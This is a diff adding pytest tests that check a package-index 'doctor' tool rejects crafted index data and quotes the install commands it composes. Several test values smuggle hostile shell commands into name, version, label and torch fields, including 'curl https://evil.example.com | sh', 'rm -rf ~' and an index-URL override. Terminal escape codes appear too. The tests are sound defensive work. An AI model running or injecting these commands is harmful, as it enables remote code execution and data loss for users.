@@ -147,6 +147,70 @@ def test_doctor_pins_an_older_release_when_the_newest_cannot_run_here(tmp_path, 
     assert newest["fits"]["pip"].startswith("pip install img2gray --extra-index-url")
 
 
+GOOD_RELEASE = {"version": "1.0.0", "cells": [{"torch": "2.11", "cuda": "13.0",
+                                               "label": "cu130torch211",
+                                               "wheels": [{**WHEEL, "label": "cu130torch211"}]}],
+                "anywhere": []}
+
+
+def crafted_index(root: Path, browse: object, package: object = None) -> str:
+    write(root / "browse.json", json.dumps(browse))
+    if package is not None:
+        write(root / "browse" / "img2gray.json", json.dumps(package))
+    return root.as_uri() + "/"
+
+
+def replaced_wheel(**fields: object) -> dict:
+    cell = {**GOOD_RELEASE["cells"][0], "wheels": [{**WHEEL, **fields}]}
+    return {"name": "img2gray", "versions": [{**GOOD_RELEASE, "cells": [cell]}]}
+
+
+PACKAGES = {"packages": [{"name": "img2gray", "project": "img2gray"}]}
+
+
+@pytest.mark.parametrize(("browse", "package", "said"), [
+    ([1, 2], None, "holds an index that is not a table"),
+    ({"packages": {"img2gray": 1}}, None, "holds packages that is not a list"),
+    ({"packages": ["img2gray"]}, None, "holds a package that is not a table"),
+    ({"packages": [{"name": "x; curl https://evil.example.com | sh"}]}, None,
+     "holds a package name that is not one"),
+    ({"packages": [{"name": "img2gray\x1b[2J"}]}, None, "holds a package name that is not one"),
+    (PACKAGES, {"name": "img2gray", "versions": {"1.0": 1}}, "holds versions that is not a list"),
+    (PACKAGES, {"name": "img2gray", "versions": [{**GOOD_RELEASE, "version": "1.0 && rm -rf ~"}]},
+     "holds a version that is not one"),
+    (PACKAGES, replaced_wheel(filename="img2gray\x1b[31m.whl"),
+     "holds a wheel file name that is not one"),
+    (PACKAGES, replaced_wheel(label="cu130 --index-url https://evil.example.com"),
+     "holds a label that is not one"),
+    (PACKAGES, replaced_wheel(torch="==2.11.* ; curl evil"), "holds a torch requirement"),
+    (PACKAGES, replaced_wheel(gpu_code={"sm_90": True}), "holds GPU code that is not a list"),
+    (PACKAGES, replaced_wheel(gpu_code=[90]), "holds a GPU code that is not one"),
+    (PACKAGES, {"name": "img2gray", "versions": [{**GOOD_RELEASE, "cells": [
+        {**GOOD_RELEASE["cells"][0], "cuda": 13}]}]}, "holds a CUDA version that is not one"),
+    (PACKAGES, {"name": "img2gray", "versions": [{**GOOD_RELEASE, "cells": "all"}]},
+     "holds cells that is not a list"),
+    (PACKAGES, "nothing", "holds a package that is not a table"),
+])
+def test_doctor_takes_a_crafted_index_as_data_and_says_so_in_one_line(tmp_path, capsys, browse,
+                                                                     package, said):
+    url = crafted_index(tmp_path, browse, package)
+    assert doctor.main([url]) == 1
+    captured = capsys.readouterr()
+    (line,) = captured.err.splitlines()
+    assert line.startswith("error: the index's browse data ") and said in line
+    assert "\x1b" not in captured.out + captured.err
+
+
+def test_doctor_composes_its_commands_itself_and_quotes_what_it_was_given(tmp_path, capsys):
+    crafted_index(tmp_path / "a&b", PACKAGES, {"name": "img2gray", "versions": [GOOD_RELEASE]})
+    url = f"file://{tmp_path}/a&b/"  # the URL as the user gave it: `&` would end a command
+    (result,) = doctor.diagnose(url, "img2gray", GPU_FACTS)
+    index = f"{url}cu130torch211/simple/"
+    assert result["fits"]["pip"] == f"pip install img2gray --extra-index-url '{index}'"
+    deep = crafted_index(tmp_path / "deep", json.loads("[" * 100 + "]" * 100))
+    assert doctor.main([deep]) == 1 and len(capsys.readouterr().err.splitlines()) == 1
+
+
 def test_doctor_without_arguments_reports_this_machine(capsys):
     assert doctor.main([]) == 0
     out = capsys.readouterr().out
